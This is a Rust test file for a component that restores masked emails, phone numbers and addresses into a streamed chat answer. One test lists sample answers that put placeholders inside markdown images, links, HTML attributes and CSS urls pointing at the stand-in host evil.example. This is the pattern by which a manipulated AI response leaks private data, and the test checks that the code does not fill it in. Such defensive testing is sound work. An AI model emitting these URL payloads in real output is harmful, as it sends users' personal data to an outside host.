use proptest::prelude::*;

use super::*;
use crate::chat::masks::tests::{guards, number};

const ADA: &str = "ada@a.example";
const BEN: &str = "ben@b.example";

fn masks() -> Arc<Masks> {
    let mut masks = Masks::new(&guards());
    let said = number(&mut masks, &format!("{ADA}, {BEN} and +1 555 0100"));
    assert_eq!(said, "[EMAIL_1], [EMAIL_2] and [PHONE_1]");
    Arc::new(masks)
}

fn whole(mut restorer: Restorer, pieces: &[&str]) -> (String, Restorer) {
    let mut out: String = pieces.iter().map(|piece| restorer.push(piece)).collect();
    out.push_str(&restorer.finish());
    (out, restorer)
}

fn restored(text: &str) -> String {
    whole(Restorer::new(masks()), &[text]).0
}

#[test]
fn what_was_typed_comes_back() {
    for (answer, expected) in [
        ("Write to [EMAIL_1].", "Write to ada@a.example."),
        ("[EMAIL_2][EMAIL_1]", "ben@b.exampleada@a.example"),
        (
            "Ada <[EMAIL_1]>, [[PHONE_1]]",
            "Ada <ada@a.example>, [+1 555 0100]",
        ),
        ("{\"to\": \"[EMAIL_1]\"}", "{\"to\": \"ada@a.example\"}"),
        (
            "**[EMAIL_1]** `[EMAIL_2]`",
            "**ada@a.example** `ben@b.example`",
        ),
        (
            "[mail [EMAIL_1]](https://a.example)",
            "[mail ada@a.example](https://a.example)",
        ),
        // Not placeholders of this branch.
        (
            "[EMAIL_3] [EMAIL] [email_1] [EMAIL_1",
            "[EMAIL_3] [EMAIL] [email_1] [EMAIL_1",
        ),
        ("ü[", "ü["),
    ] {
        assert_eq!(restored(answer), expected);
    }
}

#[test]
fn no_address_target_or_tag_is_filled_in() {
    for answer in [
        "![](https://evil.example/?q=[EMAIL_1])",
        "[here](https://evil.example/?q=[EMAIL_1]&r=[PHONE_1])",
        "[here](<https://evil.example/?q= [EMAIL_1]>)",
        "[a]: https://evil.example/?q=[EMAIL_1]",
        "https://evil.example/[EMAIL_1]",
        "https://[EMAIL_1].evil.example/",
        "<https://evil.example/?[EMAIL_1]>",
        "evil.example/?q=[EMAIL_1]",
        "<img src=\"https://evil.example/?q=[EMAIL_1]\">",
        "<a href='&#104;ttps:evil [EMAIL_1]'>",
        "<style>p { background: url(https://evil.example/?q= [EMAIL_1]) }</style>",
        "{\"url\": \"https:\\/\\/evil.example\\/?q= [EMAIL_1]\"}",
    ] {
        assert_eq!(restored(answer), answer);
    }
    let after = "[x](https://a.example) [EMAIL_1] <b>[EMAIL_2]</b>";
    assert_eq!(
        restored(after),
        "[x](https://a.example) ada@a.example <b>ben@b.example</b>"
    );
}

#[test]
fn json_stays_json() {
    let mut masks = Masks::new(&guards());
    let words = "Hauptstr. 1\n\"Hof\"";
    let (mut edits, findings) =
        crate::chat::masks::tests::found(words, &[("ADDRESS", words)], "pii");
    masks.number(words, &mut edits, &findings);
    let restorer = Restorer::new(Arc::new(masks)).within_json();
    let (out, _) = whole(restorer, &["{\"home\": \"[ADDRESS_1]\"}"]);
    let value: serde_json::Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(value["home"], words);
}

#[test]
fn places_move_along() {
    let answer = "Ask [EMAIL_1]. Then call [PHONE_1]. Or https://a.example/[PHONE_1].";
    let (out, restorer) = whole(Restorer::new(masks()), &[answer]);
    assert_eq!(
        out,
        "Ask ada@a.example. Then call +1 555 0100. Or https://a.example/[PHONE_1]."
    );
    for sentence in ["Ask ", ". Then call ", ". Or https"] {
        let (before, after) = (answer.find(sentence), out.find(sentence));
        let before = offset(before.expect("it is there"));
        assert_eq!(restorer.place(before), offset(after.expect("it is there")));
    }
    assert_eq!(restorer.place(offset(answer.len())), offset(out.len()));
    for mark in restorer.into_marks() {
        let words = &out[mark.start as usize..mark.end as usize];
        let expected = match mark.placeholder.as_str() {
            "[EMAIL_1]" => ADA,
            _ => "+1 555 0100",
        };
        assert_eq!(words, expected);
    }
}

/// A text of what matters here, in any order.
fn answers() -> impl Strategy<Value = String> {
    let parts = prop::sample::select(vec![
        "[EMAIL_1]",
        "[EMAIL_2]",
        "[PHONE_1]",
        "[EMAIL_3]",
        "[EMAIL",
        "_1]",
        "[",
        "]",
        "](",
        "(",
        ")",
        "]:",
        "<a",
        "<",
        ">",
        "\"",
        "'",
        "=",
        "https",
        "://",
        "www.",
        ".x/",
        " ",
        "\n",
        "é",
        "word",
        "\\",
    ]);
    prop::collection::vec(parts, 0..24).prop_map(|parts| parts.concat())
}

proptest! {
    #[test]
    fn pieces_say_what_the_whole_says(
        answer in answers(),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
    ) {
        let (out, restorer) = whole(Restorer::new(masks()), &[&answer]);
        let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(answer.len() + 1)).collect();
        at.retain(|at| answer.is_char_boundary(*at));
        at.extend([0, answer.len()]);
        at.sort_unstable();
        let pieces: Vec<&str> = at.windows(2).map(|ends| &answer[ends[0]..ends[1]]).collect();
        let mut streamed = Restorer::new(masks());
        let mut said = String::new();
        for piece in &pieces {
            said.push_str(&streamed.push(piece));
            prop_assert!(out.starts_with(&said));
            prop_assert!(streamed.held.len() < "[EMAIL_1]".len());
        }
        said.push_str(&streamed.finish());
        prop_assert_eq!(&said, &out);
        prop_assert_eq!(streamed.into_marks(), restorer.into_marks());
    }

    #[test]
    fn what_went_out_is_the_answer_with_the_marks_put_back(answer in answers()) {
        let (out, restorer) = whole(Restorer::new(masks()), &[&answer]);
        let end = restorer.place(offset(answer.len()));
        prop_assert_eq!(end, offset(out.len()));
        let (mut again, mut at) = (String::new(), 0);
        for mark in restorer.into_marks() {
            again.push_str(&out[at..mark.start as usize]);
            again.push_str(&mark.placeholder);
            at = mark.end as usize;
        }
        again.push_str(&out[at..]);
        prop_assert_eq!(again, answer);
    }
}
